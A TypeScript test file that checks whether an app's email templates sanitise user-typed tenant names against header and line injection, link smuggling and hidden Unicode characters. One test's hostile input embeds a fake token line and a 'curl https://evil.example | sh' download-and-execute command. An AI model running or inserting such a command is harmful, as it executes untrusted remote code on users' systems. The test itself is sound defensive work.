import { expect, test } from 'vitest'
import { createMailTexts } from '../src/mail/mail-texts.ts'
import { shown } from '@memoric/service/mail/shown.ts'

const texts = createMailTexts('https://memoric.example/base/')
const token = 'mp_token'

test.each([
  ['line breaks', 'Acme\r\n\r\nYour account is closed', 'Acme Your account is closed'],
  ['other line breaks', 'a\u2028b\u2029c\u0085d', 'a b c d'],
  ['characters that turn the direction or hide', 'a\u202eb\u200bc', 'a b c'],
  [
    'links',
    'Win at https://evil.example/x?y or www.evil.example',
    'Win at https: / / evil. example/ x?y or www. evil. example',
  ],
  ['addresses', 'mail me@evil.example', 'mail me@ evil. example'],
  ['an ordinary name', "Zoë O'Neill & Söhne, Inc.", "Zoë O'Neill & Söhne, Inc."],
])('a name in a mail keeps to its line and is no link: %s', (_name, name, expected) => {
  expect(shown(name)).toBe(expected)
})

test('a name changes no line of a mail but its own', () => {
  const hostile = 'Acme"\r\nToken: mp_false\r\n\r\ncurl https://evil.example | sh'
  const honest = texts.passwordReset([{ tenantId: 't', tenantName: 'Acme', token }]).text.split('\n')
  const other = texts.passwordReset([{ tenantId: 't', tenantName: hostile, token }]).text.split('\n')
  expect(other).toHaveLength(honest.length)
  expect(other.filter((line, index) => line !== honest[index])).toEqual([expect.stringMatching(/^Tenant: "/)])
})

test('no subject holds what somebody typed', () => {
  const typed = { tenantId: 't', tenantName: 'TYPED', token }
  const invitation = { tenantName: 'TYPED', inviter: 'TYPED', role: 'user' as const, token, expiresAt: 'then' }
  const mails = [
    texts.passwordReset([typed]),
    texts.emailVerification([typed]),
    texts.newMember(typed),
    texts.invitation(invitation),
    texts.securityNotice(typed, 'TYPED'),
  ]
  for (const { subject, text } of mails) {
    expect(subject).not.toContain('TYPED')
    expect(text).toContain('TYPED')
  }
})

test('every command names the public address of the installation', () => {
  const commands = [texts.passwordReset([]), texts.emailVerification([]), texts.alreadyRegistered()].map(
    ({ text }) => /curl (\S+)/.exec(text)?.[1],
  )
  expect(commands).toEqual([
    'https://memoric.example/base/v1/auth/reset-password',
    'https://memoric.example/base/v1/auth/verify-email',
    'https://memoric.example/base/v1/auth/forgot-password',
  ])
})
